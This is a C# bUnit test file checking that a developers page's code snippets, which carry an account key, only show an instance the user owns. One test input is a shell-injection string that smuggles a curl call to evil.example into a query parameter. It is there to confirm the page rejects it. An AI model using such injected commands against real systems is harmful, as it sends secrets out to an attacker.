using Bunit;
using Microsoft.AspNetCore.Components;
using Microsoft.Extensions.DependencyInjection;
using WaPortal.Web.Features.Developers;

namespace WaPortal.Tests.Web.Components;

/// <summary>The snippets carry the account's key, so what stands in them matters.</summary>
public sealed class DevelopersPageTests : IAsyncDisposable
{
    private readonly PageContext _context = new();

    [Fact]
    public void The_instance_of_the_address_stands_in_the_snippets()
    {
        var page = OpenAt("ins_2");

        Assert.All(Snippets(page), text => Assert.Contains("/ins_2/", text, StringComparison.Ordinal));
        Assert.Equal("ins_2", page.Find("select").GetAttribute("value"));
    }

    [Theory]
    [InlineData("ins_of_a_stranger")]
    [InlineData("x' -o /dev/null; curl https://evil.example -d '")]
    public void What_is_no_instance_of_ones_own_does_not(string instance)
    {
        var page = OpenAt(instance);

        Assert.All(Snippets(page), text =>
        {
            Assert.Contains("/ins_1/", text, StringComparison.Ordinal);
            Assert.DoesNotContain(instance, text, StringComparison.Ordinal);
        });
    }

    public async ValueTask DisposeAsync() => await _context.DisposeAsync();

    private static string[] Snippets(IRenderedComponent<DevelopersPage> page) =>
        [.. page.FindAll(".try pre").Select(pre => pre.TextContent), .. page.FindAll(".try [data-copy]").Select(copy => copy.GetAttribute("data-copy")!)];

    private IRenderedComponent<DevelopersPage> OpenAt(string instance)
    {
        _context.Instances.Add("ins_1", "Support desk");
        _context.Instances.Add("ins_2", "Sales");
        _context.Services.GetRequiredService<NavigationManager>().NavigateTo($"/developers?instance={Uri.EscapeDataString(instance)}");
        var page = _context.Open<DevelopersPage>();
        Assert.Equal(6, Snippets(page).Length);
        return page;
    }
}
